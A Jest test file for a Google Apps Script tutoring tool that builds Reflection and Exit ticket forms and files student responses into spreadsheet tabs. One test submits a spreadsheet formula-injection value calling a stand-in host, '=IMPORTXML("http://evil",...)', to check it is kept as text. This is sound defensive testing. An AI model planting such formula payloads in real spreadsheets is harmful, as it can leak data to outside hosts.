// The built bundle creates the two Google Forms, installs one form-submit trigger, writes each
// session's links, and files what students submit, on the FormApp, MailApp, ScriptApp, CalendarApp and
// Spreadsheet fakes: each response once (the same event twice, a ghost, a burst of 60 with the lock
// taken), the unfileable to Needs review, answers as text, the teacher emailed within quota.
import { REFLECTION } from '../../src/core/forms/questions';
import { ghostFormSubmitEvent } from '../fakes/apps-script/forms';
import { createForms, formOf, formsWorld, NOW, reflectionAnswers, rowsOf, sessionId, submit, type FormsWorld } from '../support/forms-world';
import { entryPoint } from '../support/load-bundle';

/** Calls that change a form. */
const FORM_WRITE = /^(FormApp\.create|Form\.(add|set|delete|move|remove)|\w+Item\.(set|create(Choice)?$))/;
function formWrites(w: FormsWorld): string[] {
  return w.fakes.calls.log().filter((name) => FORM_WRITE.test(name) && !name.endsWith('.createResponse'));
}

beforeEach(() => jest.useFakeTimers({ now: NOW }));
afterEach(() => jest.useRealTimers());

describe('Create forms (built bundle)', () => {
  it('creates the Reflection form and the Exit ticket quiz, linked to the spreadsheet, one trigger, and each session’s links', () => {
    const w = formsWorld(2);
    const page = createForms(w);
    expect(page).toContain('Reflection form created. Exit ticket quiz created (1 skills, 2 questions).');
    const reflection = formOf(w, 'Reflection');
    expect(reflection.items.map((item) => item.title)).toEqual([
      'Session', 'Student ID', 'I am the', REFLECTION.mood, REFLECTION.confidence, REFLECTION.held, REFLECTION.partnerPresent,
      REFLECTION.workedOn, REFLECTION.whatWorked, REFLECTION.whatWasHard, REFLECTION.nextStep, REFLECTION.talkToTeacher,
      REFLECTION.goal, REFLECTION.worried, REFLECTION.worry, REFLECTION.onlyAnswers, REFLECTION.newTutor,
    ]);
    expect(reflection).toMatchObject({ published: true, quiz: false, destination: 'fake-spreadsheet-id' });
    const quiz = formOf(w, 'Exit ticket');
    expect(quiz).toMatchObject({ published: true, quiz: true, destination: 'fake-spreadsheet-id' });
    const [, , skill, section, first] = quiz.items;
    expect(skill.choices).toEqual([{ value: 'Adding fractions', correct: false, navigation: 'GO_TO_PAGE', pageId: section.id }]);
    expect(section).toMatchObject({ type: 'PAGE_BREAK', title: 'Adding fractions' });
    expect(first).toMatchObject({ title: 'What is 1/2 + 1/4?', points: 1, required: true });
    expect(first.choices.map((choice) => [choice.value, choice.correct])).toEqual([['3/4', true], ['2/6', false], ['1/6', false]]);
    // Reflection, Exit ticket and Help request forms: one responses tab each.
    expect(w.fakes.fakeSpreadsheet.sheetNames().filter((name) => name.startsWith('Form Responses'))).toEqual(['Form Responses 3', 'Form Responses 2', 'Form Responses 1']);
    expect(w.script.formSubmitTriggers().map((trigger) => trigger.handler)).toEqual(['fileSubmittedResponse']);
    const [session] = rowsOf(w, 'Sessions');
    expect(session['Tutor reflection']).toMatch(new RegExp(`^https://docs.google.com/forms/d/e/\\w+/viewform\\?usp=pp_url&entry\\.\\d+=${sessionId(1)}&entry\\.\\d+=T-1&entry\\.\\d+=Tutor$`));
    expect(session['Exit ticket']).toMatch(/&entry\.\d+=U-1$/);
  });

  it('changes nothing when run again with nothing changed, and adds a new skill and question when the tab grows', () => {
    const w = formsWorld(2);
    createForms(w);
    const quizItems = formOf(w, 'Exit ticket').items.map((item) => item.id);
    w.fakes.calls.reset();
    expect(createForms(w)).toContain('Reflection form already up to date. Exit ticket quiz already up to date');
    expect(formWrites(w)).toEqual([]);
    expect(w.fakes.calls.count('ScriptApp.newTrigger')).toBe(0);
    expect(w.fakes.calls.count('Range.setValues')).toBe(0);

    w.fakes.spreadsheet.getSheetByName('Exit ticket questions')!.getRange(4, 1, 1, 6).setValues([['Math', 'Decimals', 'What is 0.1 + 0.2?', '0.3; 0.12', '0.3', '']]);
    w.fakes.calls.reset();
    expect(createForms(w)).toContain('Exit ticket quiz updated (2 skills, 3 questions)');
    const quiz = formOf(w, 'Exit ticket');
    expect(quiz.items.slice(0, quizItems.length).map((item) => item.id)).toEqual(quizItems);
    expect(quiz.items.slice(-2).map((item) => [item.type, item.title, item.points])).toEqual([['PAGE_BREAK', 'Decimals', 0], ['MULTIPLE_CHOICE', 'What is 0.1 + 0.2?', 1]]);
    expect(quiz.items[2].choices.map((choice) => choice.value)).toEqual(['Adding fractions', 'Decimals']);
    expect(quiz.items.find((item) => item.title === 'Decimals')!.goTo.navigation).toBe('SUBMIT');
    expect(w.fakes.calls.count('FormApp.create')).toBe(0);
    expect(formOf(w, 'Reflection').items.length).toBe(17);
  });

  it('creates a form deleted by hand again, linked to a new responses tab that is filed from too', () => {
    const w = formsWorld(2);
    createForms(w);
    const old = formOf(w, 'Reflection').id;
    w.forms.deleteForm(old);
    expect(createForms(w)).toContain('Reflection form created again (the earlier one was deleted)');
    expect(formOf(w, 'Reflection').id).not.toBe(old);
    expect(w.fakes.fakeSpreadsheet.sheetNames()[0]).toBe('Form Responses 4');
    submit(w, 'Reflection', reflectionAnswers(1, 'Tutor'));
    expect(rowsOf(w, 'Reflections')).toHaveLength(1);
    // The new form's links replace the old ones on Sessions.
    expect(String(rowsOf(w, 'Sessions')[0]['Tutor reflection'])).toContain(formOf(w, 'Reflection').publishedId);
  });

  it('costs the same FormApp calls for the links of 10 sessions or 500', () => {
    const calls = (pairs: number, extra: number) => {
      const w = formsWorld(pairs, extra);
      w.fakes.calls.reset();
      createForms(w);
      expect(rowsOf(w, 'Sessions').every((row) => String(row['Tutee reflection']).includes('entry.'))).toBe(true);
      return w.fakes.calls.total('Form') + w.fakes.calls.total('Item') + w.fakes.calls.total('MultipleChoiceItem') + w.fakes.calls.total('TextItem');
    };
    expect(calls(10, 0)).toBe(calls(50, 9));
  });

  it('puts each pair’s links in its Calendar series, the Pair ID in place of the session', () => {
    const w = formsWorld(1);
    createForms(w);
    entryPoint(w.bundle, 'scheduleSessions')({ sendInvitations: false });
    const calendarId = w.calendar.calendars().find((calendar) => !calendar.isDefault)!.id;
    const [series] = w.calendar.series(calendarId);
    expect(series.description).toMatch(/Tutor's reflection after each session: https:\/\/docs\.google\.com\/forms\/d\/e\/\w+\/viewform\?usp=pp_url&entry\.\d+=P-0001&entry\.\d+=T-1&entry\.\d+=Tutor/);
    // Sent from that link today, a reflection is filed under today's session.
    submit(w, 'Reflection', { ...reflectionAnswers(1, 'Tutee'), Session: 'P-0001' });
    expect(rowsOf(w, 'Reflections')[0]).toMatchObject({ 'Session ID': sessionId(1), 'Student ID': 'U-1' });
  });
});

describe('Filing what students submit (built bundle)', () => {
  it('files the same event twice as one row, ignores a ghost, sends an unknown session to Needs review, keeps a formula-like answer as text', () => {
    const w = formsWorld(2);
    createForms(w);
    const event = submit(w, 'Reflection', reflectionAnswers(1, 'Tutor', { [REFLECTION.whatWorked]: '=IMPORTXML("http://evil","//a")', [REFLECTION.workedOn]: '+1 fractions' }));
    entryPoint(w.bundle, 'fileSubmittedResponse')(event);
    expect(rowsOf(w, 'Reflections')).toHaveLength(1);
    const reflections = w.fakes.sheet('Reflections');
    const header = rowsOf(w, 'Reflections')[0];
    const column = (title: string) => Object.keys(header).indexOf(title) + 1;
    expect(reflections.inspectCell(2, column('What worked'))).toMatchObject({ value: '=IMPORTXML("http://evil","//a")', formula: '' });
    expect(reflections.inspectCell(2, column('Worked on'))).toMatchObject({ value: '+1 fractions', formula: '' });
    expect(rowsOf(w, 'Sessions')[0]).toMatchObject({ Status: 'Held', 'Tutor present': 'Yes', 'Tutee present': 'Yes' });

    w.fakes.calls.reset();
    entryPoint(w.bundle, 'fileSubmittedResponse')(ghostFormSubmitEvent(w.fakes.sheet('Form Responses 1'), event.triggerUid));
    expect(w.fakes.calls.count('Lock.tryLock')).toBe(0);
    expect(w.fakes.calls.count('Range.setValues')).toBe(0);

    submit(w, 'Reflection', reflectionAnswers(1, 'Tutee', { Session: 'P-0009-20270301' }));
    expect(rowsOf(w, 'Needs review')).toEqual([expect.objectContaining({ Form: 'Reflection', Reason: '"P-0009-20270301" is not a Session ID on the Sessions tab' })]);
    expect(rowsOf(w, 'Reflections')).toHaveLength(1);
  });

  it('scores an exit ticket against the key, points per question', () => {
    const w = formsWorld(1);
    w.fakes.spreadsheet.getSheetByName('Exit ticket questions')!.getRange(4, 1, 1, 6).setValues([['Math', 'Adding fractions', 'What is 1/5 + 1/5?', '2/5; 2/10', '2/5', 3]]);
    createForms(w);
    submit(w, 'Exit ticket', { Session: sessionId(1), 'Student ID': 'U-1', Skill: 'Adding fractions', 'What is 1/2 + 1/4?': '3/4', 'What is 1/3 + 1/3?': '2/6', 'What is 1/5 + 1/5?': '2/5' });
    // Hand-made key: 1 + 0 + 3 of 5 points.
    expect(rowsOf(w, 'Exit tickets')).toEqual([expect.objectContaining({ 'Student ID': 'U-1', Skill: 'Adding fractions', Points: 4, 'Out of': 5, Score: 80 })]);
    expect(rowsOf(w, 'Mastery')[0]).toMatchObject({ 'Student ID': 'U-1', Tickets: 1, State: 'Practising' });
  });

  it('emails the teacher who installed the trigger about a request to talk, naming only that student, within quota', () => {
    const w = formsWorld(2);
    createForms(w);
    submit(w, 'Reflection', reflectionAnswers(2, 'Tutee', { [REFLECTION.talkToTeacher]: 'Yes', [REFLECTION.whatWasHard]: 'everything' }));
    expect(w.mail.sent).toHaveLength(1);
    const [mail] = w.mail.sent;
    expect(mail.to).toEqual(['teacher@school.example']);
    expect(mail.subject).toBe('Test Program: Tutee 2 would like to talk to a teacher');
    expect(mail.body).toContain(`Tutee 2 (U-2) answered Yes to "I would like to talk to a teacher" in the reflection on session ${sessionId(2)}`);
    expect(mail.body).not.toMatch(/Tutor 2|T-2|everything/);

    w.mail.spend(1000);
    submit(w, 'Reflection', reflectionAnswers(1, 'Tutee', { [REFLECTION.talkToTeacher]: 'Yes' }));
    expect(w.mail.sent).toHaveLength(1);
    const status = entryPoint(w.bundle, 'formsStatus')() as { notices: string[] };
    expect(status.notices).toEqual(['1 request to talk to a teacher could not be emailed (the daily email quota is spent); they are listed here and are emailed once the quota allows.']);
    expect((entryPoint(w.bundle, 'talkRequests')() as unknown[]).length).toBe(2);
  });

  it('a burst of 60 submissions with the lock often taken: 60 rows, none twice, none lost', () => {
    const w = formsWorld(30);
    createForms(w);
    const lock = w.fakes.locks.document;
    w.fakes.calls.reset();
    const events: ReturnType<typeof submit>[] = [];
    for (let i = 0; i < 60; i++) {
      const pair = Math.floor(i / 2) + 1;
      // Another run (a teacher's action, an earlier submission) holds the lock for stretches of the burst, including its end.
      if (i % 20 === 5 || i === 50) lock.holdElsewhere();
      if (i % 20 === 12 && i < 50) lock.releaseElsewhere();
      const at = new Date(NOW.getTime() + Math.floor(i / 4) * 1000); // four submissions a second
      events.push(submit(w, 'Reflection', reflectionAnswers(pair, i % 2 ? 'Tutee' : 'Tutor'), at));
      if (i % 7 === 0) entryPoint(w.bundle, 'fileSubmittedResponse')(events[i]); // Apps Script delivers some twice
    }
    expect(lock.heldElsewhere).toBe(true);
    expect(rowsOf(w, 'Reflections').length).toBeLessThan(60);
    expect(w.script.pending().map((trigger) => trigger.handler)).toEqual(['runPendingWork']);
    lock.releaseElsewhere();
    w.script.fireDue((handler) => entryPoint(w.bundle, handler)());
    const ids = rowsOf(w, 'Reflections').map((row) => row['Response ID']);
    expect(ids).toHaveLength(60);
    expect(new Set(ids).size).toBe(60);
    expect(rowsOf(w, 'Sessions').every((row) => row.Status === 'Held')).toBe(true);
    expect(w.script.pending()).toEqual([]);
    const perResponse = (w.fakes.calls.total('Spreadsheet.') + w.fakes.calls.total('Sheet.') + w.fakes.calls.total('Range.')) / 60;
    // Measured: about 52 (a run that files alone costs about 95; runs of a burst file several at once).
    expect(perResponse).toBeLessThan(60);
  });

  it('costs the same Spreadsheet calls per response with 100 or 5,000 reflections already logged', () => {
    const callsWith = (logged: number) => {
      const w = formsWorld(2);
      createForms(w);
      const rows = Array.from({ length: logged }, (_, i) => [`'R-old-${i}`, new Date(NOW.getTime() - 86_400_000), sessionId(1), 'P-0001', 'T-1', 'Tutor', 3, 3, 'Yes', 'Yes', '', '', '', '', 'No', '']);
      const header = w.fakes.spreadsheet.getSheetByName('Reflections')!.getRange(1, 1, 1, rows[0].length).getValues()[0];
      w.fakes.sheet('Reflections').seed([header, ...rows]);
      // The first response after the seeding may grow a full sheet (once, with room to spare): not counted.
      submit(w, 'Reflection', reflectionAnswers(1, 'Tutor'));
      w.fakes.calls.reset();
      submit(w, 'Reflection', reflectionAnswers(2, 'Tutor'));
      expect(rowsOf(w, 'Reflections')).toHaveLength(logged + 2);
      return w.fakes.calls.snapshot();
    };
    const spreadsheetCalls = (snapshot: Record<string, number>) => Object.fromEntries(Object.entries(snapshot).filter(([name]) => /^(Spreadsheet|Sheet|Range)\./.test(name)));
    const small = callsWith(100);
    const large = callsWith(5000);
    expect(spreadsheetCalls(large)).toEqual(spreadsheetCalls(small));
  });

  it('a run that fails loses nothing: the hourly run is registered, and opening the sidebar files the response', () => {
    const w = formsWorld(1);
    createForms(w);
    w.fakes.fakeSpreadsheet.failNext('Range.setValues', { sheet: 'Reflections' });
    submit(w, 'Reflection', reflectionAnswers(1, 'Tutor'));
    expect(rowsOf(w, 'Reflections')).toHaveLength(0);
    expect(w.script.pending().map((trigger) => trigger.handler)).toEqual(['runPendingWork']);
    const status = entryPoint(w.bundle, 'formsStatus')() as { filed: number; notices: string[]; reflectionUrl: string };
    expect(status).toMatchObject({ filed: 1, notices: [], reflectionUrl: expect.stringMatching(/viewform$/) });
    expect(rowsOf(w, 'Reflections')).toHaveLength(1);
    // Nothing is left, so the hourly trigger goes at its next run.
    w.script.fireDue((handler) => entryPoint(w.bundle, handler)());
    expect(w.script.pending()).toEqual([]);
  });

  it('another teacher’s older trigger removes itself the next time it fires; responses are filed once', () => {
    const w = formsWorld(1);
    createForms(w);
    w.fakes.accounts.actAs('colleague@school.example');
    createForms(w);
    expect(w.script.formSubmitTriggers().map((trigger) => trigger.owner)).toEqual(['teacher@school.example', 'colleague@school.example']);
    submit(w, 'Reflection', reflectionAnswers(1, 'Tutor'));
    expect(w.script.formSubmitTriggers().map((trigger) => trigger.owner)).toEqual(['colleague@school.example']);
    expect(rowsOf(w, 'Reflections')).toHaveLength(1);
  });

  it('File responses files what waits and re-files Needs review once corrected', () => {
    const w = formsWorld(1);
    createForms(w);
    w.fakes.locks.document.holdElsewhere();
    submit(w, 'Reflection', reflectionAnswers(1, 'Tutor', { 'Student ID': 'T-9' }));
    w.fakes.locks.document.releaseElsewhere();
    entryPoint(w.bundle, 'menuFileResponses')();
    expect(rowsOf(w, 'Needs review')).toHaveLength(1);
    const review = w.fakes.spreadsheet.getSheetByName('Needs review')!;
    const headers = review.getRange(1, 1, 1, review.getLastColumn()).getValues()[0];
    review.getRange(2, headers.indexOf('Student ID') + 1).setValue('T-1');
    entryPoint(w.bundle, 'menuFileResponses')();
    expect(rowsOf(w, 'Needs review')).toHaveLength(0);
    expect(rowsOf(w, 'Reflections')).toEqual([expect.objectContaining({ 'Student ID': 'T-1' })]);
    entryPoint(w.bundle, 'menuFileResponses')();
    expect(rowsOf(w, 'Reflections')).toHaveLength(1);
    expect(w.fakes.ui.alerts[w.fakes.ui.alerts.length - 1].prompt).toContain('0 responses filed');
  });
});
